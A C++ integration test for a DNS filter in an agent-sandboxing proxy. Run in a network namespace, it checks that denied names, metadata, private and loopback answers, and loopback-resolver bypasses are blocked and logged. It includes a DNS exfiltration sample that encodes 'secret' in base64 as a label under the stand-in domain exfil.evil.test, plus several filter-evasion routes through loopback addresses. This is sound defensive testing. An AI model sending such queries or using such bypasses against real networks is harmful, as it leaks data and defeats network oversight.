// The DNS filter end to end, as root, in a network namespace: two agent accounts whose DNS to
// the resolver 192.0.2.53 (a TestResolver in the namespace) goes through leash-proxy's filter
// (network.dns: filter) or straight to it (network.dns: resolvers), the product's nft rules
// (the UDP drop and the DNS redirect), leashd's real PolicyStream service and the real
// leash-proxy. Every question below is a real one sent by a test account and redirected by the
// kernel. The proxy resolves no name itself here (its hosts file names none, and the host's
// resolvers are out of reach in the namespace), so a connection allowed on a name can only go
// where the filter told the agent the name is.
#include <unistd.h>

#include <fstream>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/strip.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "controlplane/loopback_resolvers.h"
#include "controlplane/netfilter_factory.h"
#include "proxy/testing/upstream_server.h"
#include "test/fixtures/root.h"
#include "test/proxy/test_resolver.h"
#include "test/proxy/testbed.h"

namespace leash::testing {
namespace {

using proxy::testing::UpstreamServer;

constexpr size_t kFiltered = 0, kUnfiltered = 1, kLoopback = 2;
// Rule N15's agents: the filter under network.udp: allow; no filter (network.dns: resolvers),
// with and without network.udp: allow; no filter with a loopback resolver of its own; no filter
// and no resolvers (the chain of a subject with no policy).
constexpr size_t kFilteredUdp = 3, kUnfilteredUdp = 4, kUnfilteredLoopback = 5, kNoResolvers = 6;
// The loopback addresses a host's local resolvers answer on besides the one resolv.conf names
// (systemd-resolved's 127.0.0.54, dnsmasq's or unbound's 127.0.0.1, ::1), each answering here
// with its own address for allowed.test, so that an answer that came from one is told apart.
const char* const kOtherLoopbackResolvers[] = {"127.0.0.54", "127.0.0.1", "::1"};
constexpr char kResolver[] = "192.0.2.53";
constexpr char kPolicy[] =
    R"pb(network { mode: MODE_WHITELIST allow { entries: "allowed.test" } })pb";
constexpr char kExfil[] = "c2vjcmv0.exfil.evil.test";

class DnsFilterNetnsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (geteuid() != 0) return;  // each test fails on LEASH_REQUIRE_ROOT
    setup_ = new absl::Status(SetUpBed());
  }
  static absl::Status SetUpBed() {
    TestbedOptions options;
    options.agents = {{"ldns-f", 18011}, {"ldns-r", 18012}, {"ldns-l", 18013}, {"ldns-fu", 18014},
                      {"ldns-ru", 18015}, {"ldns-rl", 18016}, {"ldns-n", 18017}};
    options.v0_addresses = {"192.0.2.10/24", "2001:db8::10/64"};
    options.v1_addresses = {"192.0.2.11/24", "192.0.2.12/24", "192.0.2.53/24", "2001:db8::53/64"};
    // The third agent's resolver listens on loopback, as a local caching resolver does.
    // The filtered agent also has an IPv6 resolver address; the filter forwards to the first.
    options.dns = {{{kResolver, "2001:db8::53"}, /*filter=*/true},
                   {{kResolver}, /*filter=*/false},
                   {{"127.0.0.53"}, /*filter=*/true},
                   {{kResolver}, /*filter=*/true, /*udp_allow=*/true},
                   {{kResolver}, /*filter=*/false, /*udp_allow=*/true},
                   {{"127.0.0.53"}, /*filter=*/false},
                   {{}, /*filter=*/false}};
    options.proxy_flags = {"--peek-timeout=300ms", "--connect-timeout=3s"};
    options.helpers = {"test/proxy/probe", "test/proxy/dns_probe"};
    absl::StatusOr<std::unique_ptr<ProxyTestbed>> bed = ProxyTestbed::Create(options);
    if (!bed.ok()) return bed.status();
    bed_ = bed->release();
    {
      // The resolver and the web server are test hosts off the proxy's host (v1, remote()):
      // an address of the proxy's own host is one a name never leads to.
      absl::StatusOr<NetNamespace::Entered> entered = bed_->remote().Enter();
      if (!entered.ok()) return entered.status();
      TestResolver::Table table = {{"allowed.test", {"192.0.2.11"}},
                                   {kExfil, {"192.0.2.66"}},
                                   {"metadata.allowed.test", {"169.254.169.254"}},
                                   {"lan.allowed.test", {"192.0.2.12", "10.1.2.3"}},
                                   {"home.allowed.test", {"127.0.0.1"}},
                                   {"anyip.allowed.test", {"192.0.2.225"}},
                                   {"anyip6.allowed.test", {"2001:db8:ab::5"}}};
      // Sixty addresses: an answer of about 1 KB, more than a UDP asker without EDNS0 takes.
      for (int i = 100; i < 160; ++i) {
        table["big.allowed.test"].push_back(absl::StrCat("192.0.2.", i));
      }
      absl::StatusOr<std::unique_ptr<TestResolver>> resolver =
          TestResolver::Start(kResolver, std::move(table));
      if (!resolver.ok()) return resolver.status();
      resolver_ = resolver->release();
      server_ = new UpstreamServer(proxy::SocketAddress{*engine::ParseIpAddress("192.0.2.11"), 80});
      if (!server_->ok()) return absl::InternalError("cannot serve 192.0.2.11:80");
    }
    {
      // A local caching resolver listens on the proxy's host's loopback.
      absl::StatusOr<NetNamespace::Entered> entered = bed_->ns().Enter();
      if (!entered.ok()) return entered.status();
      absl::StatusOr<std::unique_ptr<TestResolver>> local =
          TestResolver::Start("127.0.0.53", {{"allowed.test", {"192.0.2.11"}}});
      if (!local.ok()) return local.status();
      local_resolver_ = local->release();
      for (const char* address : kOtherLoopbackResolvers) {
        absl::StatusOr<std::unique_ptr<TestResolver>> other =
            TestResolver::Start(address, {{"allowed.test", {"192.0.2.99"}},
                                          {kExfil, {"192.0.2.66"}}});
        if (!other.ok()) return other.status();
        other_local_resolvers_.push_back(other->release());
      }
    }
    // AnyIP on the proxy's host: whole ranges delivered here through a route to lo, on no
    // interface.
    for (const std::vector<std::string>& argv :
         {std::vector<std::string>{"ip", "route", "add", "local", "192.0.2.224/27", "dev", "lo"},
          std::vector<std::string>{"ip", "-6", "route", "add", "local", "2001:db8:ab::/64", "dev",
                                   "lo"}}) {
      absl::StatusOr<RunResult> run = bed_->RunAsRoot(argv);
      if (!run.ok()) return run.status();
      if (run->exit_code != 0) return absl::InternalError(absl::StrCat(argv[3], ": ", run->out));
    }
    if (absl::Status started = bed_->StartProxy(); !started.ok()) return started;
    return bed_->PublishAndWait(AllSubjects(bed_->Subject(kFiltered, kPolicy))).status();
  }
  // Every agent's subject, the first one's as given.
  static std::vector<leash::v1::SubjectPolicy> AllSubjects(leash::v1::SubjectPolicy filtered) {
    return {std::move(filtered),
            bed_->Subject(kUnfiltered, kPolicy),
            bed_->Subject(kLoopback, kPolicy),
            bed_->Subject(kFilteredUdp, kPolicy),
            bed_->Subject(kUnfilteredUdp, kPolicy),
            bed_->Subject(kUnfilteredLoopback, kPolicy),
            bed_->NoPolicySubject(kNoResolvers, "its policy does not load (test)")};
  }
  static void TearDownTestSuite() {
    for (TestResolver* other : other_local_resolvers_) delete other;
    other_local_resolvers_.clear();
    delete server_;
    delete resolver_;
    delete local_resolver_;
    delete bed_;
    delete setup_;
    server_ = nullptr;
    resolver_ = nullptr;
    local_resolver_ = nullptr;
    bed_ = nullptr;
    setup_ = nullptr;
  }

  void SetUp() override {
    LEASH_REQUIRE_ROOT();
    ASSERT_NE(setup_, nullptr);
    ASSERT_TRUE(setup_->ok()) << *setup_;
    records_before_ = bed_->Records().size();
  }

  std::string Dns(size_t agent, std::vector<std::string> args) {
    std::vector<std::string> argv = {bed_->Helper("dns_probe")};
    argv.insert(argv.end(), args.begin(), args.end());
    absl::StatusOr<RunResult> run = bed_->RunAs(agent, argv);
    if (!run.ok()) return run.status().ToString();
    return std::string(absl::StripTrailingAsciiWhitespace(run->out));
  }

  // The first record written since this test began under `agent` whose reason holds `text`
  // (waits up to 5 s).
  leash::v1::DecisionRecord RecordWith(size_t agent, const std::string& text) {
    const uint32_t uid = bed_->uid(agent);
    leash::v1::DecisionRecord found;
    const absl::Time end = absl::Now() + absl::Seconds(5);
    while (absl::Now() < end) {
      const std::vector<leash::v1::DecisionRecord> records = bed_->Records();
      for (size_t i = records_before_; i < records.size(); ++i) {
        if (records[i].uid() == uid && absl::StrContains(records[i].reason(), text)) return records[i];
      }
      absl::SleepFor(absl::Milliseconds(20));
    }
    ADD_FAILURE() << "no record under uid " << uid << " with '" << text << "' in "
                  << bed_->decision_log_path();
    return found;
  }

  static absl::Status* setup_;
  static ProxyTestbed* bed_;
  static TestResolver* resolver_;
  static TestResolver* local_resolver_;
  static std::vector<TestResolver*> other_local_resolvers_;
  static UpstreamServer* server_;
  size_t records_before_ = 0;
};

absl::Status* DnsFilterNetnsTest::setup_ = nullptr;
ProxyTestbed* DnsFilterNetnsTest::bed_ = nullptr;
TestResolver* DnsFilterNetnsTest::resolver_ = nullptr;
TestResolver* DnsFilterNetnsTest::local_resolver_ = nullptr;
std::vector<TestResolver*> DnsFilterNetnsTest::other_local_resolvers_;
UpstreamServer* DnsFilterNetnsTest::server_ = nullptr;

TEST_F(DnsFilterNetnsTest, ExfiltrationThroughADeniedNameIsNxdomainLoggedAndNeverForwarded) {
  const int before = resolver_->Asked(kExfil);
  EXPECT_EQ(Dns(kFiltered, {"udp", kResolver, "c2VjcmV0.exfil.evil.test", "TXT"}),
            "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42");
  EXPECT_EQ(Dns(kFiltered, {"tcp", kResolver, "c2VjcmV0.exfil.evil.test", "A"}),
            "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42");
  EXPECT_EQ(resolver_->Asked(kExfil), before);
  const leash::v1::DecisionRecord record = RecordWith(kFiltered, "answered NXDOMAIN");
  EXPECT_EQ(record.action(), "block");
  EXPECT_EQ(record.subject().domain(), kExfil);
  EXPECT_EQ(record.subject().port(), 53u);
  EXPECT_TRUE(absl::StrContains(record.reason(), "network: DNS name c2vjcmv0.exfil.evil.test not in allow list"))
      << record.reason();
}

// An allowed name whose answer holds the metadata address, a private address (next to a public
// one) or loopback is answered REFUSED, with the guard's reason and the entry that would allow
// it, under the agent; an explicit CIDR entry of the agent's policy lets the private one through.
TEST_F(DnsFilterNetnsTest, AnAnswerLeadingToAMetadataPrivateOrLoopbackAddressIsRefused) {
  for (const char* name : {"metadata.allowed.test", "lan.allowed.test", "home.allowed.test"}) {
    EXPECT_THAT(Dns(kFiltered, {"udp", kResolver, name}), ::testing::StartsWith("rcode=5 "))
        << name;
  }
  EXPECT_THAT(RecordWith(kFiltered, "DNS name metadata.allowed.test answered with 169.254.169.254")
                  .reason(),
              ::testing::HasSubstr("cloud metadata"));
  const leash::v1::DecisionRecord lan =
      RecordWith(kFiltered, "DNS name lan.allowed.test answered with 10.1.2.3");
  EXPECT_EQ(lan.action(), "block");
  EXPECT_THAT(lan.reason(), ::testing::HasSubstr("10.1.2.3/32"));
  RecordWith(kFiltered, "DNS name home.allowed.test answered with 127.0.0.1");

  constexpr char kWithCidr[] = R"pb(network {
    mode: MODE_WHITELIST
    allow { entries: "allowed.test" entries: "10.0.0.0/8" }
  })pb";
  ASSERT_TRUE(bed_->PublishAndWait(AllSubjects(bed_->Subject(kFiltered, kWithCidr))).ok());
  EXPECT_EQ(Dns(kFiltered, {"udp", kResolver, "lan.allowed.test"}),
            "rcode=0 tc=0 id=20817 answers=2 addrs=192.0.2.12,10.1.2.3 bytes=66");
  EXPECT_THAT(Dns(kFiltered, {"udp", kResolver, "metadata.allowed.test"}),
              ::testing::StartsWith("rcode=5 "))
      << "the CIDR entry names 10/8 only";
  ASSERT_TRUE(bed_->PublishAndWait(AllSubjects(bed_->Subject(kFiltered, kPolicy))).ok());
}

// An allowed name whose answer holds an address this host has only through a `local` route
// (AnyIP, IPv4 and IPv6) is answered REFUSED under the agent, the route named: the agent is
// never told where a local service on the wildcard would answer.
TEST_F(DnsFilterNetnsTest, AnAnswerLeadingToALocallyRoutedAddressIsRefused) {
  for (const auto& [name, address] : {std::pair<std::string, std::string>{"anyip.allowed.test",
                                                                         "192.0.2.225"},
                                      {"anyip6.allowed.test", "2001:db8:ab::5"}}) {
    EXPECT_THAT(Dns(kFiltered, {"udp", kResolver, name, address.find(':') == std::string::npos
                                                            ? "A" : "AAAA"}),
                ::testing::StartsWith("rcode=5 "))
        << name;
    const leash::v1::DecisionRecord record =
        RecordWith(kFiltered, absl::StrCat("DNS name ", name, " answered with ", address));
    EXPECT_EQ(record.action(), "block");
    EXPECT_THAT(record.reason(),
                ::testing::HasSubstr(address + " is routed to this host (the kernel's route for "
                                               "it is local)"));
  }
}

TEST_F(DnsFilterNetnsTest, AnAllowedNameResolvesOverUdpAndTcp) {
  const int before = resolver_->Asked("allowed.test");
  EXPECT_EQ(Dns(kFiltered, {"udp", kResolver, "allowed.test"}),
            "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46");
  EXPECT_EQ(Dns(kFiltered, {"tcp", kResolver, "allowed.test"}),
            "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46");
  EXPECT_EQ(resolver_->Asked("allowed.test"), before + 2);
  const leash::v1::DecisionRecord record = RecordWith(kFiltered, "question over TCP forwarded to 192.0.2.53");
  EXPECT_EQ(record.action(), "allow");
  EXPECT_EQ(record.subject().domain(), "allowed.test");
}

// DNS to an IPv6 resolver lands on the filter's [::1] socket (and its TCP listener) the same way.
TEST_F(DnsFilterNetnsTest, DnsToAnIpv6ResolverIsFilteredToo) {
  for (const char* transport : {"udp", "tcp"}) {
    EXPECT_EQ(Dns(kFiltered, {transport, "2001:db8::53", "c2VjcmV0.exfil.evil.test"}),
              "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42")
        << transport;
    EXPECT_EQ(Dns(kFiltered, {transport, "2001:db8::53", "allowed.test"}),
              "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46")
        << transport;
  }
  EXPECT_EQ(resolver_->Asked(kExfil), 0);
}

TEST_F(DnsFilterNetnsTest, ALongAnswerIsTruncatedForAUdpAskerWithoutRoomAndWholeWithEdns0OrTcp) {
  const std::string cut = Dns(kFiltered, {"udp", kResolver, "big.allowed.test"});
  EXPECT_EQ(cut, "rcode=0 tc=1 id=20817 answers=0 addrs= bytes=34");
  const std::string edns = Dns(kFiltered, {"udp", kResolver, "big.allowed.test", "--edns=4096"});
  EXPECT_TRUE(absl::StartsWith(edns, "rcode=0 tc=0 id=20817 answers=60 ")) << edns;
  // EDNS0 room smaller than the answer: truncated as well.
  EXPECT_TRUE(absl::StartsWith(Dns(kFiltered, {"udp", kResolver, "big.allowed.test", "--edns=600"}),
                               "rcode=0 tc=1 "));
  EXPECT_TRUE(absl::StartsWith(Dns(kFiltered, {"tcp", kResolver, "big.allowed.test"}),
                               "rcode=0 tc=0 id=20817 answers=60 "));
}

TEST_F(DnsFilterNetnsTest, TwoQuestionsAndGarbageAreRefusedAndNeverForwarded) {
  const int before = resolver_->asked_total();
  EXPECT_EQ(Dns(kFiltered, {"udp", kResolver, "allowed.test", "--second=x.exfil.evil.test"}),
            "rcode=1 tc=0 id=20817 answers=0 addrs= bytes=53");
  EXPECT_TRUE(absl::StrContains(RecordWith(kFiltered, "2 questions").reason(),
                                "(allowed.test, x.exfil.evil.test)"));
  const std::string refused = Dns(kFiltered, {"udp", kResolver, "x", "--garbage=4096"});
  EXPECT_TRUE(absl::StartsWith(refused, "rcode=5 tc=0 ")) << refused;
  RecordWith(kFiltered, "DNS query of 4096 bytes over UDP");
  EXPECT_EQ(resolver_->asked_total(), before);
}

TEST_F(DnsFilterNetnsTest, ResolveThenConnectGoesWhereTheFilterToldTheAgent) {
  ASSERT_EQ(Dns(kFiltered, {"udp", kResolver, "allowed.test"}),
            "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46");
  // The agent aims at another address with Host allowed.test; the proxy connects where the
  // filter's answer said, not where the agent aimed and not by a lookup of its own.
  std::vector<std::string> argv = {bed_->Helper("probe"), "192.0.2.12:80", "http", "allowed.test"};
  absl::StatusOr<RunResult> run = bed_->RunAs(kFiltered, argv);
  ASSERT_TRUE(run.ok()) << run.status();
  EXPECT_EQ(absl::StripTrailingAsciiWhitespace(run->out), "LINE SERVER 192.0.2.11:80");
  RecordWith(kFiltered, "connecting to 192.0.2.11:80 as the subject's DNS filter answered it");
}

// A resolver on loopback is no way around the filter: TCP to it would otherwise meet the
// loopback exemption.
TEST_F(DnsFilterNetnsTest, ALoopbackResolverIsFilteredOverUdpAndTcp) {
  const int before = local_resolver_->Asked("allowed.test");
  for (const char* transport : {"udp", "tcp"}) {
    EXPECT_EQ(Dns(kLoopback, {transport, "127.0.0.53", "c2VjcmV0.exfil.evil.test"}),
              "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42")
        << transport;
    EXPECT_EQ(Dns(kLoopback, {transport, "127.0.0.53", "allowed.test"}),
              "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46")
        << transport;
  }
  EXPECT_EQ(local_resolver_->Asked(kExfil), 0);
  EXPECT_EQ(local_resolver_->Asked("allowed.test"), before + 2);
}

// Rule N15: DNS to any loopback address goes to the subject's filter — systemd-resolved's
// 127.0.0.54, a dnsmasq on 127.0.0.1, ::1, the IPv4-mapped spelling, and the unspecified
// addresses Linux connects to loopback — over UDP and TCP, also under network.udp: allow. A
// denied name is NXDOMAIN with a decision line, an allowed one is answered by the subject's own
// resolver (192.0.2.11, not the local resolver's 192.0.2.99), and no local resolver is asked.
TEST_F(DnsFilterNetnsTest, LoopbackDnsGoesToTheSubjectsFilterWhicheverLoopbackAddress) {
  for (size_t agent : {kFiltered, kFilteredUdp}) {
    for (const char* server :
         {"127.0.0.54", "127.0.0.1", "::1", "::ffff:127.0.0.54", "0.0.0.0", "::"}) {
      for (const char* transport : {"udp", "tcp"}) {
        EXPECT_EQ(Dns(agent, {transport, server, "c2VjcmV0.exfil.evil.test"}),
                  "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42")
            << agent << " " << transport << " " << server;
        EXPECT_EQ(Dns(agent, {transport, server, "allowed.test"}),
                  "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46")
            << agent << " " << transport << " " << server;
      }
    }
    for (const char* transport : {"UDP", "TCP"}) {
      const leash::v1::DecisionRecord record = RecordWith(
          agent, absl::StrCat("A question over ", transport, " answered NXDOMAIN"));
      EXPECT_EQ(record.action(), "block");
      EXPECT_EQ(record.subject().domain(), kExfil);
    }
  }
  for (const TestResolver* other : other_local_resolvers_) EXPECT_EQ(other->asked_total(), 0);
}

// Rule N15 without a filter (network.dns: resolvers, with and without network.udp: allow, and a
// subject with no policy, whose chain has neither filter nor resolvers): DNS to a loopback
// address is refused at once (TCP reset, UDP port unreachable) and reaches no local resolver;
// the subject's own loopback resolver still answers it over UDP and TCP.
TEST_F(DnsFilterNetnsTest, LoopbackDnsWithoutAFilterIsRefusedButToTheSubjectsOwnResolvers) {
  for (size_t agent : {kUnfiltered, kUnfilteredUdp, kUnfilteredLoopback, kNoResolvers}) {
    for (const char* server : {"127.0.0.54", "127.0.0.1", "::1", "::ffff:127.0.0.54"}) {
      EXPECT_EQ(Dns(agent, {"tcp", server, "allowed.test"}), "connect failed: Connection refused")
          << agent << " " << server;
      EXPECT_EQ(Dns(agent, {"udp", server, "allowed.test"}), "no answer")
          << agent << " " << server;
    }
  }
  for (const TestResolver* other : other_local_resolvers_) EXPECT_EQ(other->asked_total(), 0);
  {
    // Each refusal is counted on the subject's own chain, as `leash status` shows it: at least
    // the four TCP SYNs and four datagrams above.
    absl::StatusOr<NetNamespace::Entered> entered = bed_->ns().Enter();
    ASSERT_TRUE(entered.ok()) << entered.status();
    absl::StatusOr<controlplane::NetfilterChoice> nft =
        controlplane::ChooseNetfilter(controlplane::NetfilterBackend::kNftables);
    ASSERT_TRUE(nft.ok()) << nft.status();
    for (size_t agent : {kUnfiltered, kUnfilteredUdp, kUnfilteredLoopback, kNoResolvers}) {
      absl::StatusOr<controlplane::NetfilterCounters> counters =
          nft->netfilter->ReadCounters(bed_->uid(agent));
      ASSERT_TRUE(counters.ok()) << counters.status();
      EXPECT_GE(counters->loopback_dns_refused_packets, 8u) << agent;
    }
  }
  const int before = local_resolver_->Asked("allowed.test");
  for (const char* transport : {"udp", "tcp"}) {
    EXPECT_EQ(Dns(kUnfilteredLoopback, {transport, "127.0.0.53", "allowed.test"}),
              "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46")
        << transport;
  }
  EXPECT_EQ(local_resolver_->Asked("allowed.test"), before + 2);
}

// What `leash status` names (rule N15): read from this namespace's real socket tables, every
// local resolver here — resolv.conf's loopback nameserver and the ones it does not name.
TEST_F(DnsFilterNetnsTest, StatusFindsTheLoopbackResolversOfTheHost) {
  const std::string resolv_conf = absl::StrCat(::testing::TempDir(), "/resolv.conf");
  {
    std::ofstream out(resolv_conf);
    out << "nameserver 127.0.0.53\nnameserver 192.0.2.53\n";
  }
  std::vector<std::string> described;
  {
    absl::StatusOr<NetNamespace::Entered> entered = bed_->ns().Enter();
    ASSERT_TRUE(entered.ok()) << entered.status();
    absl::StatusOr<std::vector<controlplane::LoopbackResolver>> found =
        controlplane::FindLoopbackResolvers(resolv_conf);
    ASSERT_TRUE(found.ok()) << found.status();
    for (const controlplane::LoopbackResolver& r : *found) {
      described.push_back(controlplane::DescribeLoopbackResolver(r));
    }
  }
  EXPECT_THAT(described, ::testing::UnorderedElementsAre(
                             "127.0.0.53 (resolv.conf; udp, tcp)", "127.0.0.54 (udp, tcp)",
                             "127.0.0.1 (udp, tcp)", "::1 (udp, tcp)"));
}

TEST_F(DnsFilterNetnsTest, DnsToAnyOtherServerStaysClosed) {
  EXPECT_EQ(Dns(kFiltered, {"udp", "192.0.2.11", "allowed.test"}), "no answer");
}

// network.dns: resolvers — no filter, an explicit choice: the resolver itself answers, the
// denied name included, and the proxy writes nothing.
TEST_F(DnsFilterNetnsTest, ResolversModeSendsDnsStraightToTheResolvers) {
  const int before = resolver_->Asked(kExfil);
  EXPECT_EQ(Dns(kUnfiltered, {"udp", kResolver, "c2VjcmV0.exfil.evil.test"}),
            "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.66 bytes=58");
  EXPECT_EQ(resolver_->Asked(kExfil), before + 1);
  EXPECT_EQ(Dns(kUnfiltered, {"udp", "192.0.2.11", "allowed.test"}), "no answer");
  const uint32_t uid = bed_->uid(kUnfiltered);
  for (const leash::v1::DecisionRecord& record : bed_->Records()) {
    EXPECT_FALSE(record.uid() == uid && record.subject().port() == 53) << record.reason();
  }
}

}  // namespace
}  // namespace leash::testing
